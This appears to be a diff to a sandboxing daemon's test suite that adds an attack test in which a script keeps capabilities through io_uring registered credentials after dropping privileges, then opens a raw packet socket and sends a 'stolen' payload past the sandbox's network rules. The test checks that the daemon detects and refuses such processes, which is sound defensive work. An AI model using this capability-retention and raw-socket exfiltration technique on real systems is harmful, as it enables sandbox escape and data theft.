@@ -173,6 +173,52 @@ def test_program_that_a_neighbour_keeps(internet: Internet, daemon: Daemon, box:
     daemon.create(allowing(plan.ALLOWED), attachment={"netns": f"/run/netns/{box.name}"})
 
 
+RING = f"""\
+import socket, struct, sys
+sys.path.insert(0, {str(Path(__file__).parent / "attacks")!r})
+import families, held_device
+from held_device import raw_packets
+ring = families.Ring()
+credentials = ring.register_credentials()
+held_device.become_nobody()
+print("holding", flush=True)
+sys.stdin.readline()
+assert ring.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) < 0
+with socket.socket(fileno=ring.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3), credentials)) as frames:
+    frames.bind(("eth0", 0))
+    datagram = raw_packets.udp("{INSIDE4}", "{plan.SINK4}", b"{STOLEN}")
+    packet = raw_packets.header4("{INSIDE4}", "{plan.SINK4}", raw_packets.UDP, len(datagram)) + datagram
+    frames.send(bytes.fromhex(sys.argv[1].replace(":", "")) + frames.getsockname()[4] + struct.pack("!H", 0x0800) + packet)
+print("sent", flush=True)
+sys.stdin.readline()
+"""
+
+
+@pytest.mark.attack(
+    "T10",
+    "has an io_uring keep its capabilities, gives them up before it is attached, and opens a packet socket by them afterwards",
+    stopped_by="start",
+)
+def test_capabilities_that_a_ring_keeps(internet: Internet, daemon: Daemon, box: Namespace) -> None:
+    """IORING_REGISTER_PERSONALITY. /proc says that the process has none."""
+    command = box.command(PYTHON, "-c", RING, box.neighbour(OUTSIDE4))
+    with holding(command) as process:
+        where = attachment(box, acceptSidePaths=True)
+        sandbox = daemon.create(allowing(plan.ALLOWED), attachment=where)
+        assert "CapPrm:\t0000000000000000" in Path(f"/proc/{process.pid}/status").read_text()
+        with internet.capture(f"host {plan.SINK4}", unenforced=True) as outside:
+            assert process.stdin is not None and process.stdout is not None
+            process.stdin.write("\n")
+            process.stdin.flush()
+            assert process.stdout.readline() == "sent\n"
+        assert STOLEN.encode() in outside.payload, "the rules do not hold it"
+        assert sandbox.ask("DELETE").status == 204
+    with holding(command) as process:
+        message = refusal(daemon, box)
+        assert f"process {process.pid} " in message and "io_uring" in message, message
+    daemon.create(allowing(plan.ALLOWED), attachment={"netns": f"/run/netns/{box.name}"})
+
+
 # Devices whose other end is a file
 
 
